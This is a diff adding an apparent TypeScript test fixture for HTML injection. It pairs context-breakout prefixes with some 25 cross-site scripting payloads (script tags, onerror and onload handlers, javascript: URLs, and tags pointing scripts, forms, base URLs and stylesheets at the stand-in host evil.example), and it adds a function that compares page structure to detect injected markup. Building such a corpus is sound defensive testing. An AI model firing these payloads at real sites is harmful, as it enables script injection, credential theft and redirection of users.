@@ -1,0 +1,73 @@
+/** Ways out of the place in a page where a text stands. */
+const WAYS_OUT = [
+  '',
+  '"',
+  "'",
+  '`',
+  '>',
+  '">',
+  "'>",
+  '-->',
+  ']]>',
+  '*/',
+  '\\"',
+  '\\u003c/script>',
+  '\u2028',
+  '</script>',
+  '</ScRiPt >',
+  '</style>',
+  '</title>',
+  '</textarea>',
+  '<!--',
+  '&quot;>',
+];
+
+/** What would run, load or lead away, once it is out. */
+const HARM = [
+  '<script>harm()</script>',
+  '<script src=//evil.example></script>',
+  '<script type=module>harm()</script>',
+  '<img src=x onerror=harm()>',
+  '<img/src/onerror=harm()>',
+  '<svg onload=harm()>',
+  '<svg><script>harm()</script></svg>',
+  '<math><mi//xlink:href="data:x,harm()">',
+  '<iframe srcdoc="<script>harm()</script>">',
+  '<a href=javascript:harm()>x</a>',
+  '<a href="data:text/html,harm()">x</a>',
+  '<form action=//evil.example><input name=a>',
+  '<base href=//evil.example>',
+  '<meta http-equiv=refresh content=0;//evil>',
+  '<link rel=stylesheet href=//evil.example>',
+  '<style>*{background:red}</style>',
+  '<object data=javascript:harm()>',
+  '<details open ontoggle=harm()>',
+  '<input autofocus onfocus=harm()>',
+  '<video><source onerror=harm()></video>',
+  '<body onpageshow=harm()>',
+  '<template><img src=x onerror=harm()></template>',
+  ' onmouseover=harm() style=position:fixed x=',
+  '%3Cscript%3Eharm()%3C/script%3E',
+  '{{harm()}}',
+];
+
+/** Five hundred texts that are harmless as long as they stay texts. */
+export const HOSTILE_TEXTS: readonly string[] = WAYS_OUT.flatMap((out) =>
+  HARM.map((harm) => `${out}${harm}`),
+);
+
+const SCRIPT = /(<script[^>]*>)[\s\S]*?<\/script>/gi;
+const TAG = /<(?:(\/?[a-z][\w-]*|!doctype)((?:\s+[\w:-]+(?:="[^"]*")?)*)\s*\/?|!--[^<>]*--)>/gi;
+
+/**
+ * What a page is made of, whatever its texts say: each element in its order with the names of its attributes. A text that
+ * became anything else would change it; an angle bracket that belongs to no element is told as one.
+ */
+export const skeletonOf = (html: string): string[] => {
+  const page = html.replace(SCRIPT, '$1').replace(/(<style>)[\s\S]*?<\/style>/g, '$1');
+  const rest = page.replace(TAG, '');
+  const elements = [...page.matchAll(TAG)].flatMap(([, name, attributes = '']) =>
+    name ? [`${name}${attributes.replace(/="[^"]*"/g, '')}`] : [],
+  );
+  return [...elements, ...(rest.match(/<.{0,40}/g) ?? []).map((stray) => `stray ${stray}`)];
+};
